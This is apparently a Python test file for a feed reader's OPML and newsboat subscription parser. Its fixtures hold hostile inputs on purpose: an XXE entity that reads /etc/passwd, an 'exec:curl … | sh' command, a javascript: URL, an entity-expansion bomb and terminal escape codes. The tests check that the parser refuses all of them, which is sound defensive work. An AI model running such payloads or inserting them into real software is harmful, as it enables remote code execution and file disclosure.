"""Lists of feeds come in and go out again with folders, tags and names."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from monitor.config.settings import FeedConfig
from monitor.errors import UsageError
from monitor.fetch.feeds.subscriptions import newsboat_urls, opml, subscriptions_in

OPML = b"""\xef\xbb\xbf<?xml version="1.0" encoding="ISO-8859-1"?>
<!DOCTYPE opml [<!ENTITY x SYSTEM "file:///etc/passwd">]>
<opml version="1.1"><head><title>Mine</title></head><body>
 <outline text="World">
  <outline text="Asia"><outline text="One" xmlUrl="https://one.example/?a=1&b=2"
    category="/wire/fast,late"/></outline>
  <outline title="Two &amp; more" text="two" type="rss" xmlurl="http://two.example/"/>
 </outline>
 <outline text="One again" xmlUrl="https://one.example/?a=1&amp;b=2"/>
 <outline text="Bad" type="rss" xmlUrl="javascript:alert(1)"/>
 <outline text="A page" type="link" url="https://page.example/"/>
</body></opml>"""

URLS = b"""# a comment
https://one.example/?a=1&b=2 "~The \\"One\\"" world "late news"
!http://two.example/\t!hidden fast
"exec:curl https://x.example | sh"
query:unread:unread = "yes"
https://one.example/?a=1&b=2 more
file:///etc/passwd
"""


def test_folders_and_categories_of_opml_become_tags() -> None:
    found = subscriptions_in(OPML)

    assert found.feeds == (
        FeedConfig(
            "https://one.example/?a=1&b=2",
            "One",
            tags=("World / Asia", "wire / fast", "late"),
        ),
        FeedConfig("http://two.example/", "Two & more", tags=("World",)),
    )
    assert found.passed_over == 1


def test_newsboat_s_urls_are_read_and_no_command_is_run() -> None:
    found = subscriptions_in(URLS)

    assert found.feeds == (
        FeedConfig(
            "https://one.example/?a=1&b=2",
            'The "One"',
            tags=("world", "late news", "more"),
        ),
        FeedConfig("http://two.example/", tags=("fast",)),
    )
    assert found.passed_over == 3


@pytest.mark.parametrize(
    "content",
    [
        b"<opml><body>",
        b"<rss><channel/></rss>",
        b"<opml><head/></opml>",
        b'<!DOCTYPE x [<!ENTITY a "&b;&b;">]><opml><body>&a;</opml>',
        b"<opml>" * 100_000,
    ],
)
def test_what_is_no_opml_is_refused_in_words(content: bytes) -> None:
    with pytest.raises(UsageError, match="OPML"):
        subscriptions_in(content)


def test_no_entity_is_expanded_and_no_file_is_read() -> None:
    text = OPML.replace(b'text="One"', b'text="One &x;"')

    assert subscriptions_in(text).feeds[0].name == "One &x;"


def test_words_of_a_list_cannot_steer_the_terminal() -> None:
    [feed] = subscriptions_in(b'https://a.example/ "~a\x1b]0;x\x07b" "t\x9b31m"').feeds

    assert (feed.name + "".join(feed.tags)).isprintable()


FEEDS = st.lists(
    st.builds(
        FeedConfig,
        st.sampled_from([f"https://{n}.example/?a=1&b={n}" for n in range(9)]),
        st.sampled_from(
            ["", "Wire", "Ab & <C>", 'The "One"', "한국어", r"a\b", "it's"]
        ),
        tags=st.lists(
            st.sampled_from(["World", "World / Asia", "late news", "a&b", "ü"]),
            unique=True,
            max_size=3,
        ).map(tuple),
    ),
    unique_by=lambda feed: feed.url,
    max_size=6,
)


@given(FEEDS)
def test_what_goes_out_comes_in_again(feeds: list[FeedConfig]) -> None:
    by_url = {feed.url: feed for feed in feeds}

    for written in (opml(feeds, "Ice & <snow>"), newsboat_urls(feeds)):
        found = subscriptions_in(written.encode()).feeds if feeds else ()
        assert {feed.url: feed for feed in found} == by_url
